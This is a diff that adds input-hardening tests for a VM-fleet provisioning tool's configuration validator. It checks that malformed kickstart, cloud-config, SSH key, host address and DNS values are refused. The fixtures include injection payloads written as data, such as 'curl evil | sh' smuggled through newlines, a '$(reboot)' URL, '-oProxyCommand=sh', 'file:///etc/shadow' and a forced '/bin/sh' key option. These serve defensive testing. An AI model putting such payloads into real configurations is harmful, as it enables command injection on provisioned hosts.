@@ -9,8 +9,11 @@ from __future__ import annotations
 from collections.abc import Callable
 
 import pytest
+import yaml
 
 from components.model import FleetConfigError, load_fleet
+from plan.__main__ import main as plan_main
+from plan.run import load_stack
 
 
 def guest(values: dict, name: str) -> dict:
@@ -48,6 +51,229 @@ KVM1 = lambda v: host(v, "kvm1")  # noqa: E731
 WEB1 = lambda v: guest(v, "webserver1")  # noqa: E731
 BRIDGE = lambda v: host(v, "kvm1")["bridges"][0]  # noqa: E731
 CAP = lambda v: host(v, "kvm1")["capacity"]  # noqa: E731
+
+INSTALL = lambda v: guest(v, "centos7guest")["install"]  # noqa: E731
+HAPROXY = lambda v: guest(v, "haproxy")  # noqa: E731
+DOCKER = {"name": "d2", "type": "docker", "host": "docker1", "image": "nginx:1"}
+
+
+def _ssh(key: str, value) -> Callable[[dict], None]:
+    return lambda values: values.setdefault("ssh", {}).update({key: value})
+
+
+def _docker(**extra) -> Callable[[dict], None]:
+    return _add_guest({**DOCKER, **extra})
+
+
+# Real keys (fixed bytes), so a test never depends on a random key; the RSA one is only a header.
+ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAOhB7/zzhC+HXDdGOdLwJln5NYwm6UNXx3chmQSVTG4"
+ED25519_BODY = ED25519.split()[1]
+PRIVATE = (
+    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----"
+)
+
+# Input hardening (issue 17): each value is checked for the grammar of where it lands.
+HARDENING_CASES: list[tuple[str, Callable[[dict], None], str, str]] = [
+    # kickstart: %packages lines, the timezone command, the url command
+    (
+        "ks-package-ends-section",
+        _set(INSTALL, "packages", ["@core", "httpd\n%end\n%post\ncurl evil | sh\n%end"]),
+        "virtfleet:guests[2].install.packages[1]",
+        "pattern",
+    ),
+    (
+        "ks-package-shell",
+        _set(INSTALL, "packages", ["httpd; reboot"]),
+        "virtfleet:guests[2].install.packages[0]",
+        "pattern",
+    ),
+    (
+        "ks-package-space",
+        _set(INSTALL, "packages", ["httpd --nobase"]),
+        "virtfleet:guests[2].install.packages[0]",
+        "pattern",
+    ),
+    (
+        "ks-exclude-environment",
+        _set(INSTALL, "packages", ["@core", "-@^minimal-environment"]),
+        "virtfleet:guests[2].install.packages[1]",
+        "pattern",
+    ),
+    (
+        "ks-timezone-newline",
+        _set(INSTALL, "timezone", "UTC\n%post\nreboot\n%end"),
+        "virtfleet:guests[2].install.timezone",
+        "tz database",
+    ),
+    (
+        "ks-timezone-option",
+        _set(INSTALL, "timezone", "UTC --isUtc"),
+        "virtfleet:guests[2].install.timezone",
+        "tz database",
+    ),
+    (
+        "ks-timezone-unknown",
+        _set(INSTALL, "timezone", "Mars/Olympus"),
+        "virtfleet:guests[2].install.timezone",
+        "tz database",
+    ),
+    (
+        "ks-url-quote",
+        _set(INSTALL, "location", "https://mirror.example/os/'$(reboot)'/"),
+        "virtfleet:guests[2].install.location",
+        "percent-encode",
+    ),
+    ("ks-url-scheme", _set(INSTALL, "location", "file:///etc/shadow"), "virtfleet:guests[2].install.location", "URL"),
+    # cloud-config: packages go to dnf/yum, runcmd to sh
+    (
+        "cc-package-option",
+        _set(WEB1, "packages", ["--setopt=gpgcheck=0"]),
+        "virtfleet:guests[1].packages[0]",
+        "pattern",
+    ),
+    ("cc-package-quote", _set(WEB1, "packages", ['httpd", "evil']), "virtfleet:guests[1].packages[0]", "pattern"),
+    ("cc-package-exclude", _set(WEB1, "packages", ["-httpd"]), "virtfleet:guests[1].packages[0]", "pattern"),
+    ("cc-runcmd-newline", _set(WEB1, "runcmd", ["true\nruncmd: [reboot]"]), "virtfleet:guests[1].runcmd[0]", "pattern"),
+    # authorized keys: written into the kickstart's %post here-document and the cloud-config
+    (
+        "key-newline-injection",
+        _ssh("authorizedKeys", [ED25519 + " me\nVIRTFLEET_KEYS\ncurl evil | sh"]),
+        "virtfleet:ssh.authorizedKeys[0]",
+        "one line",
+    ),
+    ("key-private", _ssh("authorizedKeys", [PRIVATE]), "virtfleet:ssh.authorizedKeys[0]", "private key"),
+    ("key-not-a-key", _ssh("authorizedKeys", ["hello world"]), "virtfleet:ssh.authorizedKeys[0]", "<type> <base64>"),
+    (
+        "key-mislabelled",
+        _ssh("authorizedKeys", ["ssh-rsa " + ED25519_BODY + " me@x"]),
+        "virtfleet:ssh.authorizedKeys[0]",
+        "not a ssh-rsa key",
+    ),
+    (
+        "key-truncated",
+        _ssh("authorizedKeys", ["ssh-ed25519 " + ED25519_BODY[:-8]]),
+        "virtfleet:ssh.authorizedKeys[0]",
+        "base64 body",
+    ),
+    (
+        "key-with-options",
+        _ssh("authorizedKeys", ['command="/bin/sh" ' + ED25519]),
+        "virtfleet:ssh.authorizedKeys[0]",
+        "no options",
+    ),
+    (
+        "host-key-truncated",
+        _set(KVM1, "hostKey", "ssh-ed25519 " + ED25519_BODY[:20]),
+        "virtfleet:hosts[0].hostKey",
+        "base64",
+    ),
+    (
+        "host-key-mislabelled",
+        _set(KVM1, "hostKey", "ecdsa-sha2-nistp256 " + ED25519_BODY),
+        "virtfleet:hosts[0].hostKey",
+        "not a",
+    ),
+    ("host-key-private", _set(KVM1, "hostKey", PRIVATE), "virtfleet:hosts[0].hostKey", "private key"),
+    # host addresses: a libvirt URI, an ssh command line, /etc/hosts
+    ("address-user", _set(KVM1, "address", "root@10.0.0.2"), "virtfleet:hosts[0].address", "ssh.user"),
+    ("address-port", _set(KVM1, "address", "10.0.0.2:2222"), "virtfleet:hosts[0].address", "port key"),
+    ("address-dash", _set(KVM1, "address", "-oProxyCommand=sh"), "virtfleet:hosts[0].address", "start with '-'"),
+    ("address-space", _set(KVM1, "address", "kvm1 evil"), "virtfleet:hosts[0].address", "RFC 1123"),
+    ("address-bad-ip", _set(KVM1, "address", "10.0.0.256"), "virtfleet:hosts[0].address", "IPv4"),
+    ("jump-host-user", _ssh("jumpHost", {"host": "admin@bastion.example"}), "virtfleet:ssh.jumpHost.host", "ssh.user"),
+    ("jump-host-dash", _ssh("jumpHost", {"host": "-J evil"}), "virtfleet:ssh.jumpHost.host", "start with '-'"),
+    # DNS names
+    ("domain-empty-label", lambda v: v.update(domain="packt..co.uk"), "virtfleet:domain", "empty label"),
+    ("domain-trailing-dot", lambda v: v.update(domain="packt.co.uk."), "virtfleet:domain", "empty label"),
+    ("domain-label-dash", lambda v: v.update(domain="-packt.co.uk"), "virtfleet:domain", "'-'"),
+    ("domain-newline", lambda v: v.update(domain="packt.co.uk\n127.0.0.1 evil"), "virtfleet:domain", "RFC 1123"),
+    (
+        "https-common-name",
+        _set(_lb, "https", {"enabled": True, "commonName": "lb.example/CN=evil"}),
+        "virtfleet:loadBalancer.https.commonName",
+        "RFC 1123",
+    ),
+    # other names that reach a command line
+    ("env-name-not-a-name", _docker(env={"A=B": "x"}), "virtfleet:guests[8].env.A=B.[key]", "pattern"),
+    ("env-name-digit", _docker(env={"1X": "x"}), "virtfleet:guests[8].env.1X.[key]", "pattern"),
+    ("env-value-newline", _docker(env={"X": "a\nb"}), "virtfleet:guests[8].env.X", "pattern"),
+    (
+        "ostemplate-dash",
+        _set(lambda v: guest(v, "webserver3"), "ostemplate", "--help"),
+        "virtfleet:guests[5].ostemplate",
+        "pattern",
+    ),
+    # durations
+    (
+        "timeout-negative",
+        _set(_lb, "timeoutsMs", {"client": -5}),
+        "virtfleet:loadBalancer.timeoutsMs.client",
+        "greater",
+    ),
+    ("timeout-zero", _set(_lb, "timeoutsMs", {"server": 0}), "virtfleet:loadBalancer.timeoutsMs.server", "greater"),
+    ("timeout-huge", _set(_lb, "timeoutsMs", {"connect": 10**12}), "virtfleet:loadBalancer.timeoutsMs.connect", "less"),
+    (
+        "health-interval-negative",
+        _set(_lb, "healthCheck", {"intervalMs": -1000}),
+        "virtfleet:loadBalancer.healthCheck.intervalMs",
+        "greater",
+    ),
+    # MACs
+    (
+        "mac-all-zero",
+        _set(_net("webserver1"), "mac", "00:00:00:00:00:00"),
+        "virtfleet:guests[1].network.mac",
+        "all-zero",
+    ),
+    (
+        "mac-broadcast",
+        _set(_net("webserver1"), "mac", "ff:ff:ff:ff:ff:ff"),
+        "virtfleet:guests[1].network.mac",
+        "multicast",
+    ),
+    # cross-field: ports, gateway, vCPUs
+    (
+        "port-is-host-ssh",
+        _docker(ports=[{"hostPort": 22, "containerPort": 22}]),
+        "virtfleet:guests[8].ports[0].hostPort",
+        "SSH port virtfleet manages host docker1",
+    ),
+    (
+        "port-is-custom-ssh",
+        lambda v: (
+            host(v, "docker1").update(port=2222),
+            _docker(ports=[{"hostPort": 2222, "containerPort": 80, "hostIp": "10.0.0.6"}])(v),
+        ),
+        "virtfleet:guests[8].ports[0].hostPort",
+        "SSH port",
+    ),
+    (
+        "lb-frontend-on-ssh",
+        _set(_lb, "frontend", {"address": "10.0.0.10", "port": 22}),
+        "virtfleet:loadBalancer.frontend.port",
+        "SSH port virtfleet manages guest haproxy",
+    ),
+    (
+        "port-bound-twice-on-any",
+        _docker(
+            ports=[
+                {"hostPort": 8080, "containerPort": 80, "hostIp": "0.0.0.0"},
+                {"hostPort": 8080, "containerPort": 81},
+            ]
+        ),
+        "virtfleet:guests[8].ports[1].hostPort",
+        "already used",
+    ),
+    (
+        "gateway-is-own-address",
+        _set(BRIDGE, "gateway", "10.0.0.2"),
+        "virtfleet:hosts[0].bridges[0].gateway",
+        "own address",
+    ),
+    ("vcpus-above-threads", _set(WEB1, "vcpus", 17), "virtfleet:guests[1].vcpus", "hardware threads"),
+    # one reading of booleans: a string that is not a boolean is refused, not read by truthiness
+    ("use-agent-not-bool", _ssh("useAgent", "perhaps"), "virtfleet:ssh.useAgent", "boolean"),
+]
 
 # (case id, mutation, the key path the report must name, a word the message must contain)
 CASES: list[tuple[str, Callable[[dict], None], str, str]] = [
@@ -305,6 +531,7 @@ CASES: list[tuple[str, Callable[[dict], None], str, str]] = [
     ("hosts-missing", lambda v: v.pop("hosts"), "virtfleet:hosts", "at least one host"),
     ("guests-not-a-list", lambda v: v.update(guests={"a": 1}), "virtfleet:guests", "must be a list"),
     ("domain-invalid", lambda v: v.update(domain="Bad Domain!"), "virtfleet:domain", "DNS domain"),
+    *HARDENING_CASES,
 ]
 
 
@@ -319,5 +546,123 @@ def test_malformed_stack_names_the_key(prod_values, mutate, path, word):
 
 
 def test_corpus_is_large_enough():
-    assert len(CASES) >= 30
+    assert len(CASES) >= 30 + 50
     assert len({c[0] for c in CASES}) == len(CASES)
+
+
+@pytest.mark.parametrize(
+    ("mutate", "path", "word"), [c[1:] for c in HARDENING_CASES], ids=[c[0] for c in HARDENING_CASES]
+)
+def test_plan_of_a_malformed_stack_writes_nothing(prod_values, mutate, path, word, tmp_path, capsys):
+    """Through ``make plan``'s entry point: exit 1, the key named, and no file rendered at all."""
+    mutate(prod_values)
+    stack = tmp_path / "Pulumi.bad.yaml"
+    stack.write_text(yaml.safe_dump({"config": {f"virtfleet:{k}": v for k, v in prod_values.items()}}))
+    build = tmp_path / "build"
+    assert plan_main(["--stack", "bad", "--file", str(stack), "--build", str(build)]) == 1
+    assert path in capsys.readouterr().err
+    assert not build.exists()
+
+
+def test_misspelled_namespace_is_an_error_naming_the_key(prod_values):
+    with pytest.raises(FleetConfigError) as caught:
+        load_fleet(prod_values, {"sshPrivateKey"}, ["virtfeet:domain", "VirtFleet:guests", "libvirt:uri", "aws:region"])
+    problems = {p.path: p.message for p in caught.value.problems}
+    assert set(problems) == {"virtfeet:domain", "VirtFleet:guests"}, problems
+    assert "virtfleet:domain" in problems["virtfeet:domain"] and "misspelling" in problems["virtfeet:domain"]
+
+
+def test_misspelled_namespace_in_a_stack_file_stops_the_plan(prod_values, tmp_path, capsys):
+    document = {f"virtfleet:{k}": v for k, v in prod_values.items()}
+    document["virtflet:domain"] = "other.example"
+    stack = tmp_path / "Pulumi.bad.yaml"
+    stack.write_text(yaml.safe_dump({"config": document}))
+    assert plan_main(["--stack", "bad", "--file", str(stack), "--build", str(tmp_path / "build")]) == 1
+    assert "virtflet:domain: namespace 'virtflet' looks like a misspelling" in capsys.readouterr().err
+
+
+def test_a_broken_host_is_reported_once_not_by_every_reference(prod_values):
+    """kvm1 fails on its own; its three guests and the balancer (on one of them) add one line, not four."""
+    host(prod_values, "kvm1")["address"] = "root@10.0.0.2"
+    with pytest.raises(FleetConfigError) as caught:
+        load_fleet(prod_values, {"sshPrivateKey"})
+    messages = [str(p) for p in caught.value.problems]
+    assert messages[0].startswith("virtfleet:hosts[0].address:"), messages
+    assert [m for m in messages if "kvm1 is invalid, see above" in m] == [
+        "virtfleet:guests[0].host: host kvm1 is invalid, see above (got 'kvm1')"
+    ]
+    assert not [m for m in messages if "no such host" in m or "names no" in m], messages
+
+
+def test_a_broken_guest_is_reported_once_by_the_balancer(prod_values):
+    guest(prod_values, "webserver1")["vcpus"] = 0
+    guest(prod_values, "haproxy")["memoryMiB"] = 1
+    with pytest.raises(FleetConfigError) as caught:
+        load_fleet(prod_values, {"sshPrivateKey"})
+    paths = caught.value.paths()
+    assert "virtfleet:guests[1].vcpus" in paths and "virtfleet:guests[0].memoryMiB" in paths
+    assert "virtfleet:loadBalancer.node" in paths and "virtfleet:loadBalancer.backends[0]" in paths
+    assert not [p for p in caught.value.problems if "names no" in p.message], str(caught.value)
+    assert len(paths) == 4, str(caught.value)
+
+
+def test_quoted_false_reads_as_false_in_the_plan_and_the_model(prod_values, tmp_path, capsys):
+    """``useAgent: "false"`` (as the Pulumi CLI hands a value over): no agent in both readings, so the
+    plan plans the private key with a placeholder instead of failing for a missing key."""
+    prod_values["ssh"]["useAgent"] = "false"
+    stack = tmp_path / "Pulumi.quoted.yaml"
+    stack.write_text(yaml.safe_dump({"config": {f"virtfleet:{k}": v for k, v in prod_values.items()}}))
+    config, fleet = load_stack("quoted", stack)
+    assert fleet.ssh.use_agent is False
+    assert config.placeholders == ["sshPrivateKey"]
+    prod_values["ssh"]["useAgent"] = "true"
+    stack.write_text(yaml.safe_dump({"config": {f"virtfleet:{k}": v for k, v in prod_values.items()}}))
+    config, fleet = load_stack("quoted", stack)
+    assert fleet.ssh.use_agent is True and config.placeholders == []
+
+
+def test_plain_http_image_without_checksum_warns():
+    from components.model.rules import image_warnings
+
+    _config, fleet = load_stack("prod")
+    assert image_warnings(fleet) == []
+    web1 = fleet.guest("webserver1")
+    url = "http://mirror.example/el9.qcow2"
+    unverified = web1.model_copy(update={"image": web1.model_validate({**_WEB1_RAW, "image": {"url": url}}).image})
+    fleet = fleet.model_copy(update={"guests": (fleet.guests[0], unverified, *fleet.guests[2:])})
+    assert image_warnings(fleet) == [
+        f"virtfleet:guests[1].image.url: {url} is fetched over plain HTTP without a sha256 checksum; use https "
+        "or set virtfleet:guests[1].image.sha256 (a checksum is only possible for kvm images)"
+    ]
+    pinned = unverified.model_copy(update={"image": unverified.image.model_copy(update={"sha256": "0" * 64})})
+    assert image_warnings(fleet.model_copy(update={"guests": (fleet.guests[0], pinned, *fleet.guests[2:])})) == []
+
+
+_WEB1_RAW = {"name": "webserver1", "type": "kvm", "host": "kvm1", "network": {"bridge": "brid0", "ip": "10.0.0.11"}}
+
+
+def _program_fleet(values: dict, tmp_path, extra: dict | None = None):
+    """The program's own reading (components.stack_config, from the Pulumi runtime's config), fed
+    exactly as run_program feeds it: the stack file's values as the CLI hands them, strings."""
+    from pulumi.runtime import set_all_config
+
+    from components.stack_config import load_stack_fleet
+    from plan.run import NAMESPACE, read_stack_file
+
+    stack = tmp_path / "Pulumi.program.yaml"
+    stack.write_text(yaml.safe_dump({"config": {f"virtfleet:{k}": v for k, v in values.items()} | (extra or {})}))
+    config = read_stack_file(stack, "program")
+    set_all_config(config.pulumi_config(), sorted(f"{NAMESPACE}:{k}" for k in config.secret_keys))
+    return load_stack_fleet()
+
+
+def test_the_program_reads_config_through_the_same_model(prod_values, tmp_path):
+    prod_values["ssh"]["useAgent"] = "false"
+    assert _program_fleet(prod_values, tmp_path).ssh.use_agent is False
+    with pytest.raises(FleetConfigError) as caught:
+        _program_fleet(prod_values, tmp_path, {"virtfleat:domain": "x.example", "libvirt:uri": "qemu:///system"})
+    assert caught.value.paths() == ["virtfleat:domain"]
+    prod_values["colour"] = "blue"  # an unknown key of ours: refused by the program as by the plan
+    with pytest.raises(FleetConfigError) as caught:
+        _program_fleet(prod_values, tmp_path)
+    assert caught.value.paths() == ["virtfleet:colour"]
